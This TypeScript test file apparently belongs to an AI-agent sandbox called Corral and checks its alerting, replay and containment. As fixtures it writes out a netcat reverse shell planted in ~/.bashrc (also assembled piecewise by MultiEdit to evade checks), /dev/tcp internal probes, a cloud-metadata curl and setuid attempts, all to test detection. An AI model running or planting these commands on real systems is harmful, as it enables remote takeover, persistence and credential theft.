// Benign work succeeds and raises no alert: building and testing a small project in the
// workspace, and fetching from the allowed registry. Also `corral replay` end to end, editor calls
// (Write, Edit with and without replace_all, MultiEdit, the text editor) included.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startFixture, labPolicy, type Fixture } from './helpers/lab-fixture.js';
import { DEMO_FAR_HOSTS } from '../src/cli/demo-scenario.js';

let fx: Fixture;
before(async () => { fx = await startFixture([{ name: 'registry.test', ip: '198.51.100.10', services: [{ kind: 'http', port: 80 }] }], 'labbn'); });
after(async () => { await fx?.close(); });

test('building and testing a small C and Python project in the workspace raises no alert', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'benign' });
  try {
    const steps = [
      'mkdir -p proj && cd proj && printf "int add(int a,int b){return a+b;}\\n" > add.c && cat > main.c <<\'EOF\'\n#include <stdio.h>\nint add(int, int);\nint main(void) { printf("%d\\n", add(2, 3)); return add(2, 3) == 5 ? 0 : 1; }\nEOF',
      'cd proj && printf "all: app\\napp: main.c add.c\\n\\tgcc -O2 -o app main.c add.c\\ntest: app\\n\\t./app\\n" > Makefile && make -s test',
      'cd proj && printf "def mul(a, b):\\n    return a * b\\n" > m.py && printf "import unittest, m\\nclass T(unittest.TestCase):\\n    def test_mul(self):\\n        self.assertEqual(m.mul(3, 4), 12)\\nunittest.main()\\n" > test_m.py && python3 test_m.py 2>&1 | tail -1',
      'curl -sS -m 5 http://registry.test/pkg.tar.gz -o pkg.tgz && tar tzf pkg.tgz | head -1 && wget -q -O /dev/null http://registry.test/big?bytes=100000 && echo fetched',
      // (a local server's own port probe: connect() to the unspecified addresses reaches this host, not an internal
      // network — `::` was an ipv6.internal alert, a user review, session 41)
      'python3 -c "import socket\ndef probe(fam, a):\n  try: socket.socket(fam).connect((a, 1))\n  except OSError: print(\'refused\')\nprobe(socket.AF_INET6, \'::\')\nprobe(socket.AF_INET, \'0.0.0.0\')"',
    ];
    const results = [];
    for (const [i, c] of steps.entries()) results.push(await s.exec({ command: c, step: i + 1 }));
    for (const r of results) assert.equal(r.exitCode, 0, `${r.stdout}\n${r.stderr}`);
    assert.match(results[1]!.stdout, /^5$/m);
    assert.match(results[2]!.stdout, /OK/);
    assert.match(results[3]!.stdout, /fetched/);
    assert.equal(results[4]!.stdout, 'refused\nrefused\n');
    const { alerts } = await s.close();
    assert.deepEqual(alerts.map((a) => a.payload.message), []);
    const flows = s.events.filter((e) => e.kind === 'flow');
    assert.ok(flows.some((f) => f.payload['server.address'] === 'registry.test' && Number(f.payload.bytes_down) >= 100000 && f.payload.decision === 'allow'));
  } finally { await s.close(); }
});

test('a connection a background process still holds when the session closes gets its flow record before close() returns, attributed to the call that started it', async () => {
  // The killed process's connection closes during close(); its flow record (bytes each way) comes
  // from the gateway a moment later and must not be lost (it used to be, whenever it came late).
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'held' });
  try {
    const py = "import socket,time\ns=socket.create_connection(('registry.test',80))\ns.sendall(b'GET /big?bytes=3000000 HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n')\nn=0\nwhile n < 65536:\n    n += len(s.recv(65536))\nopen('got','w').write(str(n))\ntime.sleep(60)\n";
    writeFileSync(join(s.workspaceDir, 'hold.py'), py);
    const r1 = await s.exec({ command: 'nohup python3 hold.py >/dev/null 2>&1 & echo started', step: 1, toolCallId: 'holder' });
    assert.equal(r1.exitCode, 0, r1.stderr);
    const r2 = await s.exec({ command: 'for i in $(seq 50); do [ -s got ] && break; sleep 0.1; done; cat got', step: 2 });
    assert.ok(Number(r2.stdout) >= 65536, `the background reader got its bytes: ${r2.stdout} ${r2.stderr}`);
    assert.equal(s.events.filter((e) => e.kind === 'flow').length, 0, 'the connection is still open');
    await s.close();
    const flows = s.events.filter((e) => e.kind === 'flow' && e.payload['server.address'] === 'registry.test');
    assert.equal(flows.length, 1, JSON.stringify(flows.map((f) => f.payload)));
    assert.equal(flows[0]!.payload.decision, 'allow');
    assert.ok(Number(flows[0]!.payload.bytes_down) >= 65536, JSON.stringify(flows[0]!.payload));
    assert.equal(flows[0]!.tool_call, 'holder');
  } finally { await s.close(); }
});

test('corral replay into a log (not a terminal) writes a progress line per 2 s and the last one, not one per episode', () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-replay-progress-'));
  const input = join(dir, 'episodes.jsonl');
  writeFileSync(input, Array.from({ length: 12 }, (_, i) => JSON.stringify({ episode: `quick-${i}`, step: 1, command: 'true' })).join('\n') + '\n');
  const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
  const t0 = Date.now();
  const r = spawnSync(process.execPath, [main, 'replay', '--parallel', '2', '--home', fx.home, input], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  const seconds = (Date.now() - t0) / 1000;
  assert.equal(r.status, 0, r.stderr);
  const lines = r.stderr.split('\n').filter((l) => /^corral replay: \d+\/12 episodes/.test(l));
  assert.ok(lines.length <= 2 + Math.ceil(seconds / 2), `${lines.length} progress lines in ${seconds.toFixed(1)} s:\n${lines.join('\n')}`);
  assert.match(lines.at(-1)!, /^corral replay: 12\/12 episodes · 12\/12 tool calls/);
  rmSync(dir, { recursive: true, force: true });
});

test('corral replay: JSON lines per tool call with alerts attributed (even when raised later), exit 3', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-replay-'));
  const input = join(dir, 'episodes.jsonl');
  writeFileSync(input, [
    { episode: 'ep-a', step: 1, command: 'echo hello' },
    { episode: 'ep-a', step: 2, tool_call_id: 'bg', command: 'nohup bash -c "sleep 1; echo > /dev/tcp/10.0.0.9/22" >/dev/null 2>&1 & echo started' },
    { episode: 'ep-a', step: 3, command: 'sleep 2' },
    { episode: 'ep-b', messages: [{ role: 'assistant', tool_calls: [{ id: 'x1', type: 'function', function: { name: 'bash', arguments: JSON.stringify({ command: 'ls' }) } }] }] },
  ].map((o) => JSON.stringify(o)).join('\n') + '\n{broken\n');
  const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
  const r = spawnSync(process.execPath, [main, 'replay', '--json', '--parallel', '2', '--home', fx.home, input], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  assert.equal(r.status, 3, r.stderr);
  const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
  const summary = lines.pop().summary;
  assert.equal(summary.tool_calls, 4);
  assert.equal(summary.bad_lines, 1);
  assert.match(r.stderr, /episodes\.jsonl:5: invalid JSON/);
  const bg = lines.find((l) => l.tool_call_id === 'bg');
  const probe = bg.alerts.find((a: { category: string }) => a.category === 'internal_probe');
  assert.ok(probe, JSON.stringify(bg.alerts));
  assert.ok(bg.alerts.every((a: { tool_call: string }) => a.tool_call === 'bg'));
  assert.ok(bg.alerts.some((a: { pid: number }) => a.pid > 0), 'the background process is named');
  assert.deepEqual(lines.filter((l) => l.tool_call_id !== 'bg').flatMap((l) => l.alerts), []);
  assert.deepEqual(Object.keys(lines[0]).sort(), ['alerts', 'duration_ms', 'episode', 'exit_code', 'step', 'tool_call_id']);
  // the events are queryable afterwards
  const ev = spawnSync(process.execPath, [main, 'events', '--home', fx.home, '--category', 'internal_probe', '--json'], { encoding: 'utf8' });
  assert.equal(ev.status, 0, ev.stderr);
  // The blocked connection (network layer) once, and the command screen's finding on the call (command
  // layer: a /dev/tcp probe, raised before the call ran, so not folded into the later network alert).
  const probes = ev.stdout.trim().split('\n').map((l) => JSON.parse(l) as { tool_call: string; payload: { layer?: string } });
  assert.deepEqual(probes.map((p) => p.payload.layer).sort(), ['command', 'network']);
  assert.ok(probes.every((p) => p.tool_call === 'bg'));
});

test('corral replay: a script written with the file editor and then run replays as it happened (the editor step is a file operation in the sandbox)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-replay-editor-'));
  const input = join(dir, 'claude.jsonl');
  const use = (id: string, name: string, input: Record<string, unknown>) => ({ role: 'assistant', content: [{ type: 'tool_use', id, name, input }] });
  writeFileSync(input, `${JSON.stringify({ episode: 'ep-ed', messages: [
    use('w1', 'str_replace_based_edit_tool', { command: 'create', path: '/workspace/tools/check.sh', file_text: 'echo checking\nexec 3<>/dev/tcp/10.0.0.9/22 || true\n' }),
    use('e2', 'str_replace_based_edit_tool', { command: 'str_replace', path: '/workspace/tools/check.sh', old_str: 'checking', new_str: 'checking ports' }),
    use('b3', 'bash', { command: 'bash tools/check.sh' }),
    use('v4', 'str_replace_based_edit_tool', { command: 'view', path: '/workspace/tools' }),
  ] })}\n`);
  try {
    const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
    const r = spawnSync(process.execPath, [main, 'replay', '--json', '--home', fx.home, input], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    assert.equal(r.status, 3, r.stderr);
    const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
    const summary = lines.pop().summary;
    assert.equal(summary.tool_calls, 4, 'no editor call is skipped');
    const by = Object.fromEntries(lines.map((l) => [l.tool_call_id, l]));
    assert.deepEqual(['w1', 'e2', 'b3', 'v4'].map((id) => by[id].exit_code), [0, 0, 0, 0], 'the script exists when step 3 runs it (bash of a missing file exits 127)');
    // the script's probe is seen twice, each time on its own call: in the text the editor wrote, and on the wire when bash ran it
    assert.ok(by.w1.alerts.some((a: { category: string; layer: string }) => a.layer === 'command' && /^(reverse_shell|internal_probe)$/.test(a.category)), JSON.stringify(by.w1.alerts));
    assert.ok(by.b3.alerts.some((a: { category: string; layer: string }) => a.category === 'internal_probe' && a.layer === 'network'), JSON.stringify(by.b3.alerts));
    assert.deepEqual(by.v4.alerts, []);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('corral replay redoes MultiEdit and an Edit with replace_all as Claude Code does: the file as they leave it, all edits or none, the failing edit named', () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-replay-multiedit-'));
  const input = join(dir, 'claude.jsonl');
  const use = (id: string, name: string, input: Record<string, unknown>) => ({ role: 'assistant', content: [{ type: 'tool_use', id, name, input }] });
  const edit = (old_string: string, new_string: string, replace_all?: boolean) => ({ old_string, new_string, ...(replace_all ? { replace_all } : {}) });
  const f = '/workspace/app/settings.py';
  const expected = "DEBUG = False  # prod\nLEVEL = 'warn'\nNAME = 'app'\nTIMEOUT = 30\nRETRIES = 30\n";
  const rc = '/workspace/.bashrc', shell = 'nc -e /bin/sh 198.51.100.7 4444\nalias ll="ls -l"\n';
  writeFileSync(input, [
    { episode: 'ep-me', messages: [
      use('w1', 'Write', { file_path: f, content: "DEBUG = True\nLEVEL = 'info'\nNAME = 'app'\nTIMEOUT = 10\nRETRIES = 10\n" }),
      // (edit 3 changes what edits 1 and 2 wrote: each edit applies to the text the ones before it left)
      use('m2', 'MultiEdit', { file_path: f, edits: [edit('DEBUG = True', 'DEBUG = False'), edit("'info'", "'warn'"), edit('False\nLEVEL', 'False  # prod\nLEVEL')] }),
      use('a3', 'Edit', { file_path: f, old_string: '= 10', new_string: '= 30', replace_all: true }),
      use('w4', 'Write', { file_path: '/workspace/expected.py', content: expected }),
      use('b5', 'Bash', { command: 'cmp expected.py app/settings.py' }),
      use('m6', 'MultiEdit', { file_path: f, edits: [edit("NAME = 'app'", "NAME = 'x'"), edit('nowhere', 'y')] }),
      use('m7', 'MultiEdit', { file_path: f, edits: [edit('= 30', '= 5')] }),
      use('e8', 'Edit', { file_path: f, old_string: '= 30', new_string: '= 5' }),
      use('a9', 'Edit', { file_path: f, old_string: 'absent', new_string: 'x', replace_all: true }),
      use('b10', 'Bash', { command: 'cmp expected.py app/settings.py' }),
    ] },
    // a reverse shell planted in ~/.bashrc by a Write, and the same left there by a MultiEdit whose new texts are harmless alone
    { episode: 'ep-rc-write', messages: [use('r1', 'Write', { file_path: rc, content: '# rc\nalias ll="ls -l"\n' }), use('r2', 'Write', { file_path: rc, content: shell })] },
    { episode: 'ep-rc-multi', messages: [use('r1', 'Write', { file_path: rc, content: '# rc\nalias ll="ls -l"\n' }), use('r2', 'MultiEdit', { file_path: rc, edits: [edit('# rc', 'nc -QQ /bin/sh 198.51.100.7 4444'), edit('QQ', 'e')] })] },
  ].map((o) => JSON.stringify(o)).join('\n') + '\n');
  try {
    const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
    const r = spawnSync(process.execPath, [main, 'replay', '--json', '--home', fx.home, input], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    assert.equal(r.status, 3, r.stderr);
    assert.doesNotMatch(r.stderr, /not replayed/, 'MultiEdit and replace_all are no longer skipped');
    type Out = { episode: string; tool_call_id: string; exit_code: number | null; problem?: string; alerts: { rule: string; category: string }[] };
    const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Out & { summary?: { tool_calls: number } });
    assert.equal(lines.pop()!.summary!.tool_calls, 14);
    const by = Object.fromEntries(lines.filter((l) => l.episode === 'ep-me').map((l) => [l.tool_call_id, l]));
    assert.deepEqual(Object.values(by).map((l) => [l.tool_call_id, l.exit_code]), [['w1', 0], ['m2', 0], ['a3', 0], ['w4', 0], ['b5', 0], ['m6', 5], ['m7', 5], ['e8', 5], ['a9', 5], ['b10', 0]],
      'cmp finds the file as MultiEdit and replace_all leave it (b5), and unchanged by the four that did not apply (b10)');
    assert.deepEqual(Object.values(by).filter((l) => l.problem === undefined).map((l) => l.tool_call_id), ['w1', 'm2', 'a3', 'w4', 'b5', 'b10']);
    assert.equal(by.m6!.problem, `no edit was made (edit 2 of 2 failed): the old text does not appear verbatim in ${f}`);
    assert.equal(by.m7!.problem, `no edit was made (edit 1 of 1 failed): the old text appears 2 times in ${f} (lines 4, 5); it must be unique`);
    assert.equal(by.e8!.problem, `no replacement: the old text appears 2 times in ${f} (lines 4, 5); it must be unique`);
    assert.equal(by.a9!.problem, `no replacement: the old text does not appear verbatim in ${f}`);
    assert.deepEqual(Object.values(by).flatMap((l) => l.alerts), [], 'ordinary edits raise nothing');
    // the MultiEdit raises what the Write raises: the persistence place and the reverse shell it leaves there
    const found = (episode: string): string[] => [...new Set(lines.find((l) => l.episode === episode && l.tool_call_id === 'r2')!.alerts.map((a) => `${a.category}:${a.rule}`))].sort();
    const byWrite = found('ep-rc-write');
    assert.ok(byWrite.some((x) => x.startsWith('persistence:')) && byWrite.some((x) => x.startsWith('reverse_shell:')), `Write: ${byWrite}`);
    assert.deepEqual(found('ep-rc-multi'), byWrite);
    // people read which edit failed too
    const readable = spawnSync(process.execPath, [main, 'replay', '--home', fx.home, input], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    assert.match(readable.stdout, /episode ep-me step 6 \(m6\) did not apply: no edit was made \(edit 2 of 2 failed\): the old text does not appear verbatim/);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('corral replay: repeated steps keep their own alerts, a command too long to run fails alone, nothing to replay is exit 2', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-replay2-'));
  const input = join(dir, 'episodes.jsonl');
  writeFileSync(input, [
    { episode: 'd', step: 1, command: 'echo one' },
    { episode: 'd', step: 2, command: 'curl -s -m 2 http://169.254.169.254/latest/ || true' },
    { episode: 'd', step: 2, command: 'echo benign-dup' },
    { episode: 'd', step: 3, command: `echo ${'x'.repeat(200_000)}` },
    { episode: 'd', step: 4, command: 'echo after' },
  ].map((o) => JSON.stringify(o)).join('\n') + '\n');
  const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
  const r = spawnSync(process.execPath, [main, 'replay', '--json', '--home', fx.home, input], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' }, maxBuffer: 1 << 24 });
  assert.equal(r.status, 3, r.stderr);
  assert.match(r.stderr, /repeat a step or tool call id/);
  const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { tool_call_id: string; exit_code: number | null; alerts: { category: string }[]; error?: string; summary?: unknown });
  const calls = lines.filter((l) => !l.summary);
  assert.deepEqual(calls.map((c) => c.tool_call_id), ['d:1', 'd:2', 'd:2#2', 'd:3', 'd:4']);
  assert.ok(calls[1]!.alerts.some((a) => a.category === 'metadata_access'));
  assert.deepEqual(calls[2]!.alerts, [], 'the second call of step 2 does not carry the first one\'s alerts');
  assert.equal(calls[3]!.exit_code, 126);
  assert.equal(calls[4]!.exit_code, 0, 'the episode went on after the call that could not start');
  const empty = join(dir, 'empty.jsonl');
  writeFileSync(empty, '');
  const e = spawnSync(process.execPath, [main, 'replay', '--home', fx.home, empty], { encoding: 'utf8' });
  assert.equal(e.status, 2);
  assert.match(e.stderr, /no tool call could be read/);
});

test('corral replay: a tool call refused before it ran is named with its reason in readable output, and is exit 126 with its error in --json', () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-replay-notrun-'));
  const input = join(dir, 'ep.jsonl');
  writeFileSync(input, [
    { episode: 'nr', step: 1, tool: 'Write', input: { file_path: '/proc/self/cwd/notes.txt', content: 'x' } },
    { episode: 'nr', step: 2, command: 'echo after' },
  ].map((o) => JSON.stringify(o)).join('\n') + '\n');
  try {
    const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
    const r = spawnSync(process.execPath, [main, 'replay', '--home', fx.home, input], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /episode nr step 1 \(nr:1\) did not run: file call: file tools do not write under \/proc/);
    assert.doesNotMatch(r.stdout, /step 2 .*did not run/);
    // --json: like a command too long to start, exit 126 and the error (README's replay contract; it was exit null)
    const j = spawnSync(process.execPath, [main, 'replay', '--json', '--home', fx.home, input], { encoding: 'utf8' });
    const first = JSON.parse(j.stdout.split('\n')[0]!) as { exit_code: number | null; error?: string };
    assert.equal(first.exit_code, 126, j.stdout);
    assert.match(first.error ?? '', /file tools do not write under \/proc/);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('corral replay stopped by Ctrl-C tears every sandbox down, prints what ran and a summary saying so, and exits 130', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-replay3-'));
  const input = join(dir, 'slow.jsonl');
  writeFileSync(input, Array.from({ length: 20 }, (_, i) => JSON.stringify({ episode: `s${i}`, step: 1, command: 'sleep 2' })).join('\n') + '\n');
  const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
  const netns = (): string[] => execFileSync('ip', ['netns', 'list'], { encoding: 'utf8' }).split('\n').map((l) => l.split(' ')[0]!).filter(Boolean);
  // (this process's own runtime makes fresh slots in the background after earlier tests' sessions closed: let it
  // finish first, so a namespace it makes is not taken for one the replay left behind)
  await fx.rt.pool.idle();
  const before = netns();
  const child = spawn(process.execPath, [main, 'replay', '--json', '--parallel', '2', '--home', fx.home, input], { stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  child.stdout.setEncoding('utf8').on('data', (d: string) => { out += d; if (out.includes('\n') && !child.killed) child.kill('SIGINT'); });
  child.stderr.resume();
  const code = await new Promise<number | null>((resolve) => child.on('exit', (c) => resolve(c)));
  assert.equal(code, 130);
  const summary = (JSON.parse(out.trim().split('\n').at(-1)!) as { summary: { interrupted?: string; episodes_not_run?: number; tool_calls: number; tool_calls_not_run?: number } }).summary;
  assert.equal(summary.interrupted, 'SIGINT');
  assert.ok((summary.episodes_not_run ?? 0) > 0);
  // (the calls never reached are counted: the summary said only how many ran — a review, session 40)
  assert.equal(summary.tool_calls + (summary.tool_calls_not_run ?? 0), 20);
  assert.ok((summary.tool_calls_not_run ?? 0) > 0);
  assert.deepEqual(netns().filter((n) => !before.includes(n)), [], 'no namespace left behind');
});

test('corral run passes stdio and the exit code through and reports violations on stderr', async () => {
  const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
  const r = spawnSync(process.execPath, [main, 'run', '--home', fx.home, '--json', '--', 'bash', '-c', 'read x; echo "got $x"; curl -s -m 2 http://10.0.0.8/ ; exit 7'], { input: 'ping\n', encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  assert.equal(r.status, 7, r.stderr);
  const [first, ...rest] = r.stdout.trim().split('\n');
  assert.equal(first, 'got ping');
  assert.match(rest.join('\n'), /^Blocked by Corral: .*private.*\(rule: always-deny:private\)$/, 'the agent reads why in the HTTP body');
  const summary = JSON.parse(r.stderr.trim().split('\n').pop()!);
  assert.equal(summary.exit_code, 7);
  assert.equal(summary.alerts[0].category, 'internal_probe');
  const bad = spawnSync(process.execPath, [main, 'run', '--policy', join(process.cwd(), 'test', 'fixtures', 'bad-policy.yaml'), '--', 'true'], { encoding: 'utf8' });
  assert.equal(bad.status, 2);
  assert.match(bad.stderr, /bad-policy\.yaml:5:15: network\.allow\[0\]\.ports\[0\]/);
});

void DEMO_FAR_HOSTS;

test('filesystem.mounts shows a host dataset read-only at its own path; a mount that would show a hidden path (even through a symlink) or is missing refuses the session', async () => {
  const { mkdirSync, rmSync, symlinkSync } = await import('node:fs');
  const data = mkdtempSync(join(tmpdir(), 'corral-mount-'));
  try {
    writeFileSync(join(data, 'train.jsonl'), '{"x":1}\n');
    mkdirSync(join(data, 'sub'));
    const yaml = (host: string): string => `filesystem:\n  mounts:\n    - host: ${host}\n      path: /data/set\n`;
    const s = await fx.rt.createSession({ policy: labPolicy(yaml(data)), episode: 'mounts' });
    try {
      const r = await s.exec({ command: 'cat /data/set/train.jsonl && ls /data/set && (touch /data/set/new 2>&1 || true) && (rm -f /data/set/train.jsonl 2>&1 || true)', step: 1, toolCallId: 'm-1' });
      assert.equal(r.exitCode, 0, r.stderr);
      assert.match(r.stdout, /\{"x":1\}/);
      assert.match(r.stdout, /sub/);
      assert.match(r.stdout + r.stderr, /Read-only file system/);
    } finally { await s.close(); }
    assert.deepEqual(spawnSync('ls', [data], { encoding: 'utf8' }).stdout.trim().split('\n').sort(), ['sub', 'train.jsonl'], 'nothing changed on the host');

    // A symlink to a hidden path is the hidden path (here Corral's own event store): refused before the sandbox starts.
    const link = join(data, 'innocent');
    symlinkSync(fx.home, link);
    await assert.rejects(fx.rt.createSession({ policy: labPolicy(yaml(link)), episode: 'mounts-2' }), /filesystem\.mounts .*innocent \(.*corral-test-home-[^)]*\): would show the hidden path/);
    await assert.rejects(fx.rt.createSession({ policy: labPolicy(yaml('/root/.ssh')), episode: 'mounts-3' }), /must not be a system directory/);
    await assert.rejects(fx.rt.createSession({ policy: labPolicy(yaml(join(data, 'missing'))), episode: 'mounts-4' }), /no such file or directory on this host/);
    assert.equal(fx.rt.sessions.size, 0, 'refused sessions leave nothing open');
  } finally { rmSync(data, { recursive: true, force: true }); }
});

test('a host workspace is checked on its real path: a link to /etc (or a new directory below one) is refused, a link to a project directory works and shows that directory', async () => {
  const { existsSync, mkdirSync, readFileSync, symlinkSync } = await import('node:fs');
  const dir = mkdtempSync(join(tmpdir(), 'corral-ws-link-'));
  try {
    symlinkSync('/etc', join(dir, 'lnk-etc'));
    await assert.rejects(fx.rt.createSession({ policy: labPolicy(), episode: 'wslink-1', workspace: join(dir, 'lnk-etc') }), /workspace .*lnk-etc \(\/etc\): must not be a system directory/);
    await assert.rejects(fx.rt.createSession({ policy: labPolicy(), episode: 'wslink-2', workspace: join(dir, 'lnk-etc', 'corral-new') }), /workspace .*lnk-etc\/corral-new \(\/etc\/corral-new\): must not be a system directory/);
    assert.equal(existsSync('/etc/corral-new'), false, 'nothing was created below /etc');
    // a workspace holding a hidden path is refused too (it would be writable), through a link as well
    mkdirSync(join(dir, 'home', '.ssh'), { recursive: true });
    symlinkSync(join(dir, 'home'), join(dir, 'lnk-home'));
    const hiding = labPolicy(`filesystem:\n  hide: ['${join(dir, 'home', '.ssh')}']\n`);
    await assert.rejects(fx.rt.createSession({ policy: hiding, episode: 'wslink-3', workspace: join(dir, 'lnk-home') }), /workspace .*lnk-home \(.*\/home\): would show the hidden path .*\.ssh/);
    assert.equal(fx.rt.sessions.size, 0, 'refused sessions leave nothing open');
    // a link to an ordinary project directory: the project is the workspace, and writes land there
    const proj = join(dir, 'proj');
    mkdirSync(proj);
    writeFileSync(join(proj, 'README'), 'project\n');
    symlinkSync(proj, join(dir, 'lnk-proj'));
    const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'wslink-4', workspace: join(dir, 'lnk-proj') });
    try {
      const r = await s.exec({ command: 'cat README && echo made > out.txt' });
      assert.equal(r.exitCode, 0, r.stderr);
      assert.equal(r.stdout, 'project\n');
    } finally { await s.close(); }
    assert.equal(readFileSync(join(proj, 'out.txt'), 'utf8'), 'made\n');
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('no setuid or setgid file can be made in a host workspace (on the host it is the owner\'s — root\'s here — so it would be a setuid-root program); ordinary modes still work', async () => {
  const { statSync } = await import('node:fs');
  const dir = mkdtempSync(join(tmpdir(), 'corral-ws-suid-'));
  try {
    const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'ws-suid', workspace: dir });
    try {
      const py = [
        'import os, shutil',
        "shutil.copy('/usr/bin/id', 'y')",
        'def tryit(name, fn):',
        '    try:',
        '        fn(); print(name, "done")',
        '    except OSError as e:',
        '        print(name, e.errno)',
        "tryit('chmod-4755', lambda: os.chmod('y', 0o4755))",
        "tryit('chmod-2755', lambda: os.chmod('y', 0o2755))",
        "tryit('fchmod-6755', lambda: os.fchmod(os.open('y', os.O_RDONLY), 0o6755))",
        "tryit('open-creat-4755', lambda: os.close(os.open('z', os.O_CREAT | os.O_WRONLY, 0o4755)))",
        "tryit('mknod-4755', lambda: os.mknod('n', 0o100000 | 0o4755))",
        "tryit('chmod-755', lambda: os.chmod('y', 0o755))",
        "tryit('chmod-1777-dir', lambda: (os.mkdir('d'), os.chmod('d', 0o1777)))",
      ].join('\n');
      const r = await s.exec({ tool: 'python', command: py, step: 1 });
      assert.equal(r.exitCode, 0, r.stderr);
      assert.deepEqual(r.stdout.trim().split('\n'), ['chmod-4755 1', 'chmod-2755 1', 'fchmod-6755 1', 'open-creat-4755 1', 'mknod-4755 1', 'chmod-755 done', 'chmod-1777-dir done']);
      // the shell's chmod too (a different libc path: fchmodat)
      const sh = await s.exec({ command: 'chmod u+s y 2>&1; chmod g+s y 2>&1; stat -c %a y', step: 2 });
      assert.match(sh.stdout, /Operation not permitted[\s\S]*Operation not permitted[\s\S]*\n755\n$/);
    } finally { await s.close(); }
    // on the host: no file in the workspace carries a setuid or setgid bit
    for (const f of ['y', 'z', 'd']) {
      let mode = 0;
      try { mode = statSync(join(dir, f)).mode; } catch { continue; }
      assert.equal(mode & 0o6000, 0, `${f} is ${mode.toString(8)}`);
    }
    assert.equal(statSync(join(dir, 'y')).uid, 0, 'the workspace is root-owned: what the agent made is root\'s on the host');
  } finally { rmSync(dir, { recursive: true, force: true }); }
});
